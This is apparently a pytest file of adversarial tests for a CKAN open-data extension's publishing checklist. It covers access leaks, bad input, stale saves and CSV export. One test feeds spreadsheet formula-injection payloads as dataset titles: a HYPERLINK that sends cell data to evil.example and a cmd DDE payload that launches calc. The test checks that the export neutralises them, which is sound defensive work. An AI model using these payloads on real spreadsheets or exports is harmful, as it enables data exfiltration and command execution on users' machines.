"""The checklist attacked: as an attacker, a careless API client and a
confused publisher would. Each test failed before its fix."""
from __future__ import annotations

import pytest
from ckan import model
from ckan.plugins import toolkit
from ckan.tests import helpers as ckan_helpers

from ckanext.gbgopendata import model as gbg_model
from ckanext.gbgopendata.tests.checklist_helpers import (
    DEFAULT_CHECKLIST,
    confirm,
    draft,
    published,
)
from ckanext.gbgopendata.tests.helpers import organization_member

pytestmark = [pytest.mark.usefixtures("with_plugins"), DEFAULT_CHECKLIST]


@pytest.fixture
def admin(organization):
    return organization_member(organization, "admin")


def call(action, user=None, **data):
    context = {"user": user["name"] if user else "", "ignore_auth": False}
    return ckan_helpers.call_action(action, context=context, **data)


def published_before_the_checklist(editor, organization):
    """A public dataset with nothing confirmed, as the datasets published
    before the checklist existed are."""
    dataset = draft(editor, organization)
    pkg = model.Package.get(dataset["id"])
    pkg.private = False
    model.repo.commit()
    return dataset


# --- a comment is not an untick ---------------------------------------------------------


@pytest.mark.parametrize("entry", [{"comment": "Vi testar nu."}, {"confirmed": False}, {"confirmed": False, "comment": "x"}])
def test_a_comment_on_an_unconfirmed_item_does_not_unpublish_a_dataset_published_before_the_checklist(
    organization, editor, entry
):
    dataset = published_before_the_checklist(editor, organization)
    result = call("gbg_checklist_update", editor, id=dataset["id"], items=[{"id": "tested", **entry}])
    assert result["private"] is False and result["status"] == "public_incomplete"
    assert model.Package.get(dataset["id"]).private is False
    assert "unpublished_automatically" not in [event["event"] for event in gbg_model.checklist_events(dataset["id"])]


def test_a_comment_on_an_unconfirmed_item_over_the_page_does_not_unpublish(app, organization, editor):
    dataset = published_before_the_checklist(editor, organization)
    form = {"shown-tested": "1", "was-tested": "0", "was-comment-tested": "", "comment-tested": "Vi testar nu."}
    app.post(f"/dataset/{dataset['name']}/checklist", data=form, headers={"Authorization": editor["token"]})
    assert model.Package.get(dataset["id"]).private is False
    assert gbg_model.checklist_confirmations(dataset["id"])["tested"]["comment"] == "Vi testar nu."


# --- what a private dataset's checklist says to those who may not see it ------------------


@pytest.mark.parametrize("action", ["gbg_checklist_show", "gbg_checklist_update", "gbg_dataset_publish", "gbg_dataset_unpublish"])
def test_the_checklist_actions_do_not_confirm_that_a_private_dataset_exists(app, organization, editor, action):
    dataset = draft(editor, organization)
    data = {"items": [{"id": "tested", "confirmed": True}]} if action == "gbg_checklist_update" else {}
    hidden = app.post(f"/api/3/action/{action}", json={"id": dataset["name"], **data}, status=404)
    absent = app.post(f"/api/3/action/{action}", json={"id": "finns-inte", **data}, status=404)
    assert hidden.json["error"] == absent.json["error"]
    assert dataset["id"] not in hidden.body
    assert gbg_model.checklist_confirmations(dataset["id"]) == {}


# --- bad input ----------------------------------------------------------------------------


@pytest.mark.parametrize("comment", ["a\x00b", "a\x1bb"])
def test_an_unpublish_comment_with_control_characters_is_refused_not_a_500(app, organization, editor, admin, comment):
    dataset = published(editor, admin, organization)
    response = app.post(
        "/api/3/action/gbg_dataset_unpublish",
        json={"id": dataset["id"], "comment": comment},
        headers={"Authorization": editor["token"], "Accept-Language": "en"},
        status=409,
    )
    assert "ontrol characters" in str(response.json["error"]["comment"])
    # called from Python (the CLI, another extension), past the HTTP layer
    with pytest.raises(toolkit.ValidationError) as raised:
        call("gbg_dataset_unpublish", editor, id=dataset["id"], comment=comment)
    assert "kontrolltecken" in str(raised.value.error_dict["comment"])
    assert model.Package.get(dataset["id"]).private is False
    # the next request is not disturbed
    assert call("gbg_checklist_show", editor, id=dataset["id"])["status"] == "public"


def test_a_huge_item_list_is_refused_in_one_short_message(app, organization, editor):
    dataset = draft(editor, organization)
    response = app.post(
        "/api/3/action/gbg_checklist_update",
        json={"id": dataset["id"], "items": [{"id": "x" * 1000, "confirmed": True}] * 10000},
        headers={"Authorization": editor["token"]},
        status=409,
    )
    assert len(response.body) < 2000
    assert "Högst" in response.json["error"]["items"][0] and "10000" in response.json["error"]["items"][0]
    assert gbg_model.checklist_confirmations(dataset["id"]) == {}


def test_an_unknown_long_item_id_is_named_shortened(organization, editor):
    dataset = draft(editor, organization)
    with pytest.raises(toolkit.ValidationError) as raised:
        call("gbg_checklist_update", editor, id=dataset["id"], items=[{"id": "y" * 100000, "confirmed": True}])
    [message] = raised.value.error_dict["items"]
    assert len(message) < 200 and "y" * 64 + "…" in message


# --- the overview's CSV -----------------------------------------------------------------


@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?"&A1;"Klicka")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"])
def test_the_overview_csv_never_starts_a_cell_with_a_formula(app, organization, editor, title):
    model.User.get(editor["id"]).fullname = "=1+1"
    model.repo.commit()
    draft(editor, organization, title_translated={"sv": title, "en": title})
    response = app.get(
        f"/organization/{organization['name']}/publicering?format=csv", headers={"Authorization": editor["token"]}
    )
    import csv
    import io

    [header, row] = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    assert row[header.index("Titel")] == "'" + title
    assert row[header.index("Ändrad av")] == "'=1+1"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for cell in row)


# --- the organisation of a public dataset --------------------------------------------------


@pytest.mark.parametrize("public", [True, False])
def test_no_dataset_is_moved_to_no_organisation(organization, editor, admin, sysadmin, public):
    # A private one was left with no organisation, reachable by no one of
    # one and refused on every save (attacker run, issue 16).
    dataset = published(editor, admin, organization) if public else draft(editor, organization)
    for empty in ("", None):
        with pytest.raises(toolkit.ValidationError) as raised:
            call("package_owner_org_update", sysadmin, id=dataset["id"], organization_id=empty)
        assert "belongs to an organisation" in str(raised.value.error_dict["organization_id"])
    pkg = model.Package.get(dataset["id"])
    assert pkg.owner_org == organization["id"] and pkg.private is (not public)


def test_a_public_dataset_is_not_moved_to_an_organisation_without_orgnr(organization, editor, admin, sysadmin):
    dataset = published(editor, admin, organization)
    # an organisation from before the schema required an organisation number
    old = model.Group(name="gammal-forvaltning", title="Gammal förvaltning", type="organization", is_organization=True)
    model.Session.add(old)
    model.repo.commit()
    with pytest.raises(toolkit.ValidationError) as raised:
        call("package_owner_org_update", sysadmin, id=dataset["id"], organization_id="gammal-forvaltning")
    assert "organisationsnummer" in str(raised.value.error_dict["organization_id"])
    assert model.Package.get(dataset["id"]).owner_org == organization["id"]
    # a private dataset may move (nothing public breaks), and so may a public
    # one to an organisation with an organisation number
    private = draft(editor, organization)
    call("package_owner_org_update", sysadmin, id=private["id"], organization_id="gammal-forvaltning")
    assert model.Package.get(private["id"]).owner_org == old.id


# --- a checklist file that breaks while CKAN runs ------------------------------------------


def _reload_checklist(ini, *options):
    """`ckan gbgopendata reload-checklist` as an administrator runs it: a
    process of its own, with the site's configuration."""
    import subprocess
    import sys
    from pathlib import Path

    ckan = Path(sys.executable).parent / "ckan"
    return subprocess.run(
        [sys.executable, str(ckan), "-c", str(ini), "gbgopendata", "reload-checklist", *options],
        capture_output=True, text=True, timeout=120,
    )


def test_the_checklist_changes_only_by_reload_checklist_and_a_broken_file_changes_nothing(
    app, organization, editor, tmp_path, ckan_config, monkeypatch
):
    import shutil

    import yaml

    from ckanext.gbgopendata import checklist
    from ckanext.gbgopendata.tests.helpers import derived_ini
    from ckanext.gbgopendata.tests.session_app import reconfigure

    path = tmp_path / "items.yaml"
    shutil.copy(checklist.definition.DEFAULT_FILE, path)
    monkeypatch.setitem(ckan_config, checklist.CONFIG_OPTION, str(path))
    reconfigure(ckan_config)  # the site starts with this file
    ini = derived_ini(tmp_path / "site.ini", **{checklist.CONFIG_OPTION: str(path)})
    dataset = draft(editor, organization)

    def items_a_request_applies():
        answer = app.get(
            "/api/3/action/gbg_checklist_show", params={"id": dataset["id"]}, headers={"Authorization": editor["token"]}
        )
        return [item["id"] for item in answer.json["result"]["items"]]

    document = yaml.safe_load(path.read_text("utf-8"))
    document["items"].append(
        {"id": "accessibility", "phase": "B", "kind": "confirmed", "required": True, "confirmed_by": "editor",
         "text": {"sv": "Tillgänglighetskraven är uppfyllda.", "en": "The accessibility requirements are met."}}
    )
    path.write_text(yaml.safe_dump(document, allow_unicode=True), "utf-8")
    # the file edited on disk: no worker applies it yet
    assert "accessibility" not in items_a_request_applies()

    reloaded = _reload_checklist(ini, "--lang", "en")
    assert reloaded.returncode == 0, reloaded.stderr
    assert f"Checklist {path} applied by every worker from its next request" in reloaded.stdout
    assert "accessibility" in items_a_request_applies()

    path.write_text("items: [half saved", encoding="utf-8")
    refused = _reload_checklist(ini)
    assert refused.returncode == 1
    assert "Checklistfilen kan inte användas; checklistan som gäller ligger kvar" in refused.stderr
    assert f"{path}: is not valid YAML" in refused.stderr
    # the checklist in force stays, and the rule holds with it: not a 500, not a publication
    assert "accessibility" in items_a_request_applies()
    with pytest.raises(toolkit.ValidationError) as raised:
        call("package_patch", editor, id=dataset["id"], private=False)
    assert "Informationsägaren godkänner" in str(raised.value.error_dict["private"])


# --- a stale save does not undo an unpublishing -------------------------------------------


def test_a_stale_full_save_does_not_republish_a_dataset_unpublished_since(app, organization, editor, admin):
    dataset = published(editor, admin, organization)
    read_while_public = call("package_show", editor, id=dataset["id"])  # a form left open
    call("gbg_dataset_unpublish", admin, id=dataset["id"], comment="Personuppgifter i filen")
    with pytest.raises(toolkit.ValidationError) as raised:
        call("package_update", editor, **read_while_public)
    assert "Reload the dataset" in str(raised.value.error_dict["private"])
    assert model.Package.get(dataset["id"]).private is True
    assert [event["event"] for event in gbg_model.checklist_events(dataset["id"])][0] == "unpublished"
    # on the current version (or by package_patch / the publish action) it may be published again
    current = call("package_show", editor, id=dataset["id"])
    assert call("package_update", editor, **dict(current, private=False))["private"] is False


@pytest.mark.parametrize("lang, message", [("sv", "Läs in datamängden på nytt"), ("en", "Reload the dataset")])
def test_a_stale_save_over_http_is_refused_in_the_requests_language(app, organization, editor, admin, lang, message):
    dataset = published(editor, admin, organization)
    read_while_public = call("package_show", editor, id=dataset["id"])
    call("gbg_dataset_unpublish", admin, id=dataset["id"])
    response = app.post(
        "/api/3/action/package_update",
        json=read_while_public,
        headers={"Authorization": editor["token"], "Accept-Language": lang},
        status=409,
    )
    assert message in str(response.json["error"]["private"])
    assert model.Package.get(dataset["id"]).private is True
